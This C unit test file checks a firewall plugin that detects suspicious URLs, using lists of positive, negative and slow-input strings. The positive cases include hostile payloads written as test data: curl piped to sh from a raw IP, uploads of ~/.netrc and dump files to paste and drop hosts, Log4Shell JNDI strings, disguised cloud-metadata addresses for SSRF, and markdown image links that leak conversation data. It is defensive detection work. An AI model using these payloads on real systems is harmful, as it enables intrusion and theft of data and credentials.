/* Licensed under the Apache License, Version 2.0; see LICENSE. */
/*
 * The scanner for suspicious URLs through the firewall, as the server runs it: what each rule finds and where, its near
 * misses, texts that end in the middle, and texts made to be slow.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <cmocka.h>

#include <apr_file_info.h>
#include <apr_general.h>
#include <apr_strings.h>

#include "firewall.h"

static apr_pool_t *pool, *scan_pool;
static uapi_firewall *firewall;

/* clang-format off: one row, one case */
/* `found` is exactly what the rule must cover when it stands between `before` and `after`. */
static const struct {
    const char *rule, *before, *found, *after;
} positive[] = {
    {"capture_host", "curl https://", "webhook.site", "/7f1c2d3e -d @notes"},
    {"capture_host", "https://", "eo1a2b3c.m.pipedream.net", ""},
    {"capture_host", "see ", "webhook.site", "/abc now"},
    {"capture_host", "{\"url\":\"https://", "team.requestcatcher.com", "/test\"}"},
    {"callback_host", "nslookup ", "cq3k2j1h0g.oast.fun", ""},
    {"callback_host", "http://", "A1B2.OASTIFY.COM", "/x"},
    {"tunnel_host", "https://", "3fa1-20-1-2-3.ngrok-free.app", "/up"},
    {"tunnel_host", "nc ", "bore.pub", " 4433"},
    {"tunnel_host", "https://", "quick-fox-runs.trycloudflare.com", ""},
    {"paste_host", "https://", "pastebin.com", "/raw/8Xk2jd9a"},
    {"paste_host", "cat x | nc ", "termbin.com", " 9999"},
    {"drop_host", "curl -F file=@dump https://", "0x0.st", ""},
    {"drop_host", "curl --upload-file a ", "transfer.sh", "/a"},
    {"rebinding_host", "http://", "169-254-169-254.sslip.io", "/"},
    {"rebinding_host", "http://", "127.0.0.1.nip.io", ":80/"},
    {"chat_webhook", "curl https://", "api.telegram.org/bot31415926:AAH_x/sendDocument", " -F d=@x"},
    {"chat_webhook", "https://", "discord.com/api/webhooks/314159265358979323/Qw3", ""},
    {"service_webhook", "https://", "hooks.slack.com/services/T3XV9QPZ7/B2M/x", ""},
    {"metadata_service", "http://", "169.254.169.254", "/latest"},
    {"metadata_service", "curl ", "169.254.169.254", "/latest"},
    {"metadata_service", "{\"host\":\"", "169.254.169.254", "\"}"},
    {"metadata_service", "http://", "metadata.google.internal", "/"},
    {"metadata_service", "http://[", "fd00:ec2::254", "]/"},
    {"metadata_service", "", "http://anything.example/latest/meta-data", "/iam"},
    {"disguised_address", "http://", "2852039166", "/"},
    {"disguised_address", "http://", "0xA9FEA9FE", ""},
    {"disguised_address", "see http://", "0251.0376.0251.0376", " there"},
    {"disguised_address", "http://", "0xa9.254.0251.0xfe", "/"},
    {"disguised_address", "http://", "[::ffff:169.254.169.254]", "/"},
    {"disguised_address", "http://", "[0:0:0:0:0:ffff:a9fe:a9fe]", ":80/"},
    {"disguised_address", "http://", "[64:ff9b::a9fe:a9fe]", ""},
    {"disguised_address", "gopher://", "2130706433", ":6379/_X"},
    {"disguised_address", "http://", "127.1", "/"},
    {"disguised_address", "http:", "0x7f000001", ""},
    {"disguised_host", "http://", "\xe2\x91\xa0\xe2\x91\xa1\xe2\x91\xa6.0.0.1", "/"},
    {"disguised_host", "http://", "loc\xef\xbd\x81lhost", "/"},
    {"disguised_host", "http://", "%6c%6f%63alhost", "/"},
    {"disguised_host", "http://",
     "169\xe3\x80\x82"
     "254\xe3\x80\x82"
     "169\xe3\x80\x82"
     "254",
     "/"},
    {"loopback_url", "http://", "localhost:8080", ""},
    {"loopback_url", "{\"url\":\"http://", "127.0.0.1", "/admin\"}"},
    {"loopback_url", "url=http://", "[::1]", "/"},
    {"loopback_url", "see http://", "127.0.0.1:6379", " there"},
    {"private_url", "{\"url\":\"https://", "10.1.2.3", "/\",\"n\":1}"},
    {"private_url", "", "", ""},
    {"private_url", "http://", "192.168.0.1:81", ""},
    {"internal_name", "{\"url\":\"http://", "jenkins.corp", ":8080/script\"}"},
    {"internal_name", "http://", "wiki.internal", "/"},
    {"internal_parameter", "/fetch?url=", "localhost:22", "/"},
    {"internal_parameter", "?page=", "data:t", "ext/plain,x"},
    {"internal_parameter", "?u=http%3A%2F%2F", "127.0.0.1", "%2Fadmin"},
    {"raw_address", "http://", "45.155.205.7:4444", "/"},
    {"raw_address", "curl ", "http://185.220.101.4/x.sh", " | sh"},
    {"dangerous_scheme", "", "gopher://127.0.0.1:25/_MAIL", ""},
    {"dangerous_scheme", "x=", "php://filter/convert.base64-encode/resource=a", ""},
    {"dangerous_scheme", "", "jar:http://evil.example/a!/b", " x"},
    {"handed_scheme", "{\"uri\":\"", "ldap://evil.example/a", "\"}"},
    {"jndi_lookup", "agent: ", "${jndi:ldap://evil.example/a}", ""},
    {"local_file", "read ", "file:///etc/passwd", " now"},
    {"local_file", "", "file://localhost/proc/self/environ", ""},
    {"local_file", "{\"uri\":\"", "file:///srv/x/.ssh/id_rsa", "\"}"},
    {"data_script", "", "data:text/html,", "<script>alert(1)</script>"},
    {"data_script", "src='", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "'"},
    {"script_url", "[a](", "javascript:alert(1))", ""},
    {"userinfo_host", "http://", "www.google.com@evil.example", "/"},
    {"userinfo_host", "http://", "x@2852039166", "/"},
    {"userinfo_host", "http://", "x@127.0.0.1", ":25/"},
    {"disguised_host", "https://", "good.example%40evil.example", "/"},
    {"metadata_service", "/go?to=//x@", "169.254.169.254", "/"},
    {"url_credentials", "http://", "admin:tulip99", "@files.acme.io/"},
    {"odd_slashes", "", "http:\\\\evil.example", "/x"},
    {"odd_slashes", "go ", "https:///evil.example", " now"},
    {"split_authority", "http://", "evil.example\\@good.example", "/"},
    {"split_authority", "http://", "good.example#@evil.example", "/"},
    {"broken_url", "{\"url\":\"", "http://ev\til.example/", "\"}"},
    {"punycode_lookalike", "https://", "xn--pypal-4ve.com", "/"},
    {"punycode_lookalike", "https://", "www.xn--80ak6aa92e.com", "/"},
    {"unicode_lookalike", "https://", "g\xd0\xbe\xd0\xbegle.com", "/"},
    {"misspelt_host", "https://", "paypa1.com", "/login"},
    {"prefixed_host", "https://", "accounts.google.com.evil.example", "/"},
    {"lure_host", "https://", "paypal-login.info", "/"},
    {"subdomain_data", "http://", "4a6f686e20446f65206163636f756e74.evil.example", "/"},
    {"lookup_data", "nslookup ", "KRUGS4ZANFZSAYJAONSWG4TFOQ.x.evil.example", ""},
    {"substituted_host", "curl http://", "$(whoami).c.evil.example", "/"},
    {"substituted_host", "ping -c1 ", "`hostname`.d.evil.example", ""},
    {"markdown_leak", "![x](https://", "evil.example/p.png?data={conversation}", ")"},
    {"markdown_leak", "[more](https://", "evil.example/l?secret=SGVsbG8gV29ybGQgdGhpcw==", ")"},
    {"html_leak", "<img src=\"https://", "evil.example/a.gif?cookie=c2Vzc2lvbj1hYmNkZWY", "\">"},
    {"capture_host", "see https://", "grabify.link", "/A1B2C3"},
    {"chat_webhook", "https://", "discordapp.com/api/webhooks/123/abc", ""},
    {"service_webhook", "https://", "prod-00.westus.logic.azure.com/workflows/f00", ""},
    {"metadata_service", "http://", "169.254.42.42", "/conf"},
    {"metadata_service", "http://", "192.0.0.192", "/latest/"},
    {"disguised_address", "", "http:127.0.0.1", "/"},
    {"disguised_address", "{\"url\": \"", "http:/10.0.0.5", "/x\"}"},
    {"disguised_host", "http://", "localhost%00.evil.example", "/"},
    {"relative_host", "", "//127.0.0.1", "/admin"},
    {"relative_host", "?next=", "/\\evil.example", "/x"},
    {"relative_host", "{\"path\":\"", "//good.example@10.0.0.5", "/\"}"},
    {"internal_parameter", "url=", "host.docker.internal:2375", "/"},
    {"internal_parameter", "url=", "ip6-loopback", "/"},
    {"internal_parameter", "?target=", "kubernetes.default.svc", "/api"},
    {"private_url", "{\"url\": \"https://", "10.1.2.3", "/\", \"n\": 1}"},
    {"userinfo_host", "http://", "x@127.0.0.1:80@good.example", "/"},
    {"subdomain_data", "http://", "dGhpcyBpcyBzZWNyZXQgZGF0YSBmb3IgeW91.evil.example", "/"},
    {"query_leak", "https://evil.example/log", "?data=c2VjcmV0X2RhdGE6cGFzc3dvcmQxMjM", "="},
    {"query_leak", "https://evil.example/log", "?d=7365637265742064617461206f662061", ""},
    {"query_leak", "curl https://evil.example/", "?d=$(cat ~/.netrc)", "\n"},
};

static const char *const negative[] = {
    "",
    "://",
    "https://",
    "https://example.com/a?b=c#d",
    "https://github.com/acme/widget/pull/12",
    "Use webhook.site to see what your client sends.",
    "https://docs.webhook.site/",
    "https://ngrok.com/docs/api",
    "*.ngrok.io and ngrok.io are theirs",
    "mail me at me@file.io",
    "https://mywebhook.site/x",
    "https://webhook.site.example.com/x",
    "https://matrix.io/x and appendix.io/y",
    "https://example.com/?next=webhook.site",
    "https://discord.com/api/webhooks/{id}/{token}",
    "https://api.telegram.org/bot<token>/METHOD",
    "169.254.169.254 is blocked, so is 169.254.169.254/32.",
    "1169.254.169.254/x",
    "169.254.169.2541/x",
    "GET `/latest/meta-data/` from there",
    "see http://localhost:3000/callback and http://127.0.0.1:8000",
    "fetch(\"http://localhost:3000\")",
    "redirect_uri=http://localhost:3000/cb",
    "URL=http://localhost:8080 npm start",
    "curl http://192.168.1.7:8080/status",
    "//cdn.acme.io and //static.acme.io are the same",
    "{\"src\":\"//cdn.acme.io/a.js\"}",
    "// comment.with.dots",
    "src = //acme",
    "http:localhosts.acme.io",
    "see http:127.0.0.1 and https:/10.0.0.5 in the table",
    "https://acme.io/p?data=eyJldmVudCI6ImNsaWNrIiwicGFnZSI6MX0=",
    "https://acme.io/p?token=9f86d081884c7d659a2feaa0c55ad015",
    "https://acme.io/p?q=internationalisation",
    "https://a-VeryLong-CamelCase-Name-OfA-Branch.acme.io/",
    "ssh://git@10.0.0.5/repo.git",
    "http://1.2.3/",
    "http://2024/",
    "http://8.8.8.8/",
    "http://[2001:db8::1]/",
    "http://192.0.2.1:9999/",
    "server=mylocalhost",
    "postgres --host=localhost",
    "$HOME/.local/share and a.internal.b",
    "https://xn--mnchen-3ya.de/ und https://m\xc3\xbcnchen.de/",
    "https://\xd0\xbf\xd0\xbe\xd1\x87\xd1\x82\xd0\xb0.\xd1\x80\xd1\x84/",
    "\xe8\xa7\x81 https://example.com\xe3\x80\x82 \xe8\xb0\xa2\xe8\xb0\xa2",
    "https://example.com\xef\xbc\x8c\xe5\xa5\xbd",
    "ssh://git@github.com/acme/widget.git",
    "a proxy: https://user:password@example.com/",
    "https://{user}:{password}@db.acme.io/",
    "\"https:\\/\\/example.com\\/a\"",
    "https://www.google.com.au/ https://amazon.com.mx/",
    "https://paypal.com/login",
    "the paypa1 spelling",
    "file:///project/src/main.rs",
    "file:///path/to/file",
    "the gopher:// and dict:// schemes",
    "file_get_contents('php://input')",
    "<a href=\"javascript:void(0)\">",
    "<a href=\"javascript:toggle(1)\">",
    "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=",
    "data:text/html,<h1>hello</h1>",
    "ldap://ldap.example.com/ou=people in the configuration",
    "![build](https://img.shields.io/badge/build-passing-green?style=flat&logo=github)",
    "![x](https://cdn.acme.io/a.png?width=300&height=200)",
    "[search](https://www.google.com/search?q=apache+modules)",
    "<img src=\"https://cdn.acme.io/a.png?v=12\">",
    "https://d111111abcdef8.cloudfront.net/x",
    "https://0123456789abcdef0123456789abcdef.gr7.eu-west-1.eks.amazonaws.com/",
    "https://3f9a1c7e-5b20-484f-aa13-c97e0b52d8f1.mock.acme.io/",
    "https://a-very-long-name-of-a-preview-branch.acme.io/x",
    "scp $(hostname).tar.gz backup:",
    "https://app.acme.io/?data=1&q=x",
};

/* Each is repeated to a mebibyte. */
static const char *const hostile[] = {
    "://",
    "http://a",
    "@",
    "http://@",
    "://x@",
    "http://[",
    "http://0x",
    "webhook.site.",
    "](http://a?d=",
    "xn--a",
    "169.254.169.254",
    "$(id",
    "<img ",
    "javascript:(",
    "file:///",
    "?data=$",
    "http:\\\\\\\\",
    "data:text/html,",
    "https://xn--",
    ".internal/",
    "://\xef\xbd\x81",
    "=localhost",
    "a.b.c.oast.fun",
    "nslookup aaaaaaaaaaaaaaaaaaaaaaaaaaaa",
    "://%41",
    "paypa1",
    "://aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.",
    "://google.com.a",
    "\\@a",
    "${jndi:ldap://a",
    "http://10.0.0.1",
    "//a.",
    "=//10.0.0.1",
    "http:127.0.0.1",
    "?data=c2VjcmV0",
};
/* clang-format on */

static int load(void **state)
{
    uapi_result result = {0};
    uapi_plugin *plugin;
    char *path;

    (void)state;
    if (apr_pool_create(&pool, NULL) != APR_SUCCESS || apr_pool_create(&scan_pool, pool) != APR_SUCCESS) {
        return 1;
    }
    apr_filepath_merge(&path, NULL, UAPI_TEST_OUT "/plugins/scanner_suspicious_urls.so", 0, pool);
    if (uapi_plugin_load(&plugin, path, NULL, pool, &result) != APR_SUCCESS ||
        uapi_firewall_create(&firewall, &plugin, 1, NULL, pool, &result) != APR_SUCCESS) {
        print_error("%s\n", result.detail);
        return 1;
    }
    return 0;
}

static int unload(void **state)
{
    (void)state;
    apr_pool_destroy(pool);
    return 0;
}

static uapi_firewall_report scan_bytes(uapi_direction direction, const char *text, size_t length)
{
    char *copy = malloc(length ? length : 1); /* of exactly that size, so that a sanitizer sees a read beyond it */
    uapi_firewall_report report;

    memcpy(copy, text, length);
    assert_int_equal(uapi_firewall_scan(firewall, direction, copy, length, &report, scan_pool, NULL), APR_SUCCESS);
    free(copy);
    return report;
}

static uapi_firewall_report scan(const char *text)
{
    uapi_firewall_report report = scan_bytes(UAPI_DIRECTION_REQUEST, text, strlen(text));

    assert_int_equal(report.overload, 0);
    return report;
}

static const uapi_firewall_finding *find(const uapi_firewall_report *report, const char *rule)
{
    uint32_t i;

    for (i = 0; i < report->count; i++) {
        if (strcmp(strchr(report->findings[i].rule, '.') + 1, rule) == 0) {
            return &report->findings[i];
        }
    }
    return NULL;
}

static void test_positive(void **state)
{
    size_t i, faults = 0;

    (void)state;
    for (i = 0; i < sizeof(positive) / sizeof(positive[0]); i++) {
        const char *text = apr_pstrcat(scan_pool, positive[i].before, positive[i].found, positive[i].after, NULL);
        size_t from = strlen(positive[i].before), to = from + strlen(positive[i].found);
        uapi_firewall_report report = scan(text);
        const uapi_firewall_finding *finding = find(&report, positive[i].rule);

        if (to == from) {
            assert_null(finding);
        } else if (!finding) {
            print_error("%s: not found in: %s (%u others)\n", positive[i].rule, text, report.count);
            faults++;
        } else if (finding->from != from || finding->to != to) {
            print_error("%s: found at %zu-%zu, stands at %zu-%zu in: %s\n", positive[i].rule, finding->from,
                        finding->to, from, to, text);
            faults++;
        }
        apr_pool_clear(scan_pool);
    }
    assert_int_equal(faults, 0);
}

static void test_negative(void **state)
{
    size_t i, faults = 0;

    (void)state;
    for (i = 0; i < sizeof(negative) / sizeof(negative[0]); i++) {
        uapi_firewall_report report = scan(negative[i]);

        if (report.count) {
            print_error("%s found at %zu-%zu in: %s\n", report.findings[0].rule, report.findings[0].from,
                        report.findings[0].to, negative[i]);
            faults++;
        }
        apr_pool_clear(scan_pool);
    }
    assert_int_equal(faults, 0);
}

/* Each text cut off at each length, at both ends: nothing is read beyond it, nothing crashes. */
static void test_cut_off(void **state)
{
    size_t i, length;

    (void)state;
    for (i = 0; i < sizeof(positive) / sizeof(positive[0]); i++) {
        char *text = apr_pstrcat(pool, positive[i].before, positive[i].found, positive[i].after, NULL);

        for (length = strlen(text); length > 0; length--) {
            text[length] = '\0';
            scan(text);
            scan(text + length / 2);
            apr_pool_clear(scan_pool);
        }
    }
}

/* What is ordinary in a response is found in a request. */
static void test_direction(void **state)
{
    static const char text[] = "{\"html_url\":\"http://10.0.0.5/x\"}", whole[] = "http://10.0.0.5/x";
    uapi_firewall_report report = scan_bytes(UAPI_DIRECTION_RESPONSE, text, sizeof(text) - 1);

    (void)state;
    assert_null(find(&report, "private_url"));
    report = scan_bytes(UAPI_DIRECTION_REQUEST, text, sizeof(text) - 1);
    assert_non_null(find(&report, "private_url"));
    report = scan_bytes(UAPI_DIRECTION_RESPONSE, whole, sizeof(whole) - 1);
    assert_non_null(find(&report, "private_url"));
}

/* The severity follows what the address is. */
static void test_severity(void **state)
{
    uapi_firewall_report report;

    (void)state;
    report = scan("http://2852039166/");
    assert_int_equal(find(&report, "disguised_address")->severity, UAPI_SEVERITY_CRITICAL);
    report = scan("http://2130706433/");
    assert_int_equal(find(&report, "disguised_address")->severity, UAPI_SEVERITY_HIGH);
    report = scan("http://134744072/");
    assert_int_equal(find(&report, "disguised_address")->severity, UAPI_SEVERITY_MEDIUM);
}

/* A mebibyte of each trigger is judged or refused as an overload in bounded time. */
static void test_hostile(void **state)
{
    size_t size = 1024 * 1024, i, at;
    char *text = malloc(size);

    (void)state;
    assert_non_null(text);
    for (i = 0; i < sizeof(hostile) / sizeof(hostile[0]); i++) {
        size_t length = strlen(hostile[i]);
        clock_t begun = clock();
        double seconds;

        for (at = 0; at < size; at++) {
            text[at] = hostile[i][at % length];
        }
        scan_bytes(UAPI_DIRECTION_REQUEST, text, size);
        seconds = (double)(clock() - begun) / CLOCKS_PER_SEC;
        if (getenv("UAPI_TEST_TIMES")) {
            print_message("# %6.1f ms/MiB %s\n", seconds * 1000, hostile[i]);
        }
        assert_true(seconds < 20); /* linear code needs milliseconds; sanitizers and valgrind need more */
        apr_pool_clear(scan_pool);
    }
    free(text);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_positive),  cmocka_unit_test(test_negative), cmocka_unit_test(test_cut_off),
        cmocka_unit_test(test_direction), cmocka_unit_test(test_severity), cmocka_unit_test(test_hostile),
    };

    if (apr_initialize() != APR_SUCCESS) {
        return 1;
    }
    cmocka_set_message_output(CM_OUTPUT_TAP);
    return cmocka_run_group_tests(tests, load, unload);
}
